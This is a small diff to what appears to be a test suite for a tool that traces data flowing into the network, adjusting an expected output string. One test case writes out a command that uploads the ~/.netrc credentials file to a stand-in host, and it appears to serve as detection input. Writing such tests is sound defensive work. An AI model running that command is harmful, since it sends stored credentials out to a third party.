@@ -145,7 +145,7 @@ describe('what flows into the network', () => {
     [
       'a file, by its name',
       'curl -T ~/.netrc https://a.example/',
-      'file ~/.netrc -> network body https://a.example/',
+      'file ~/.netrc -> network body https://a.example/*',
     ],
     [
       'everything, by way of a file',
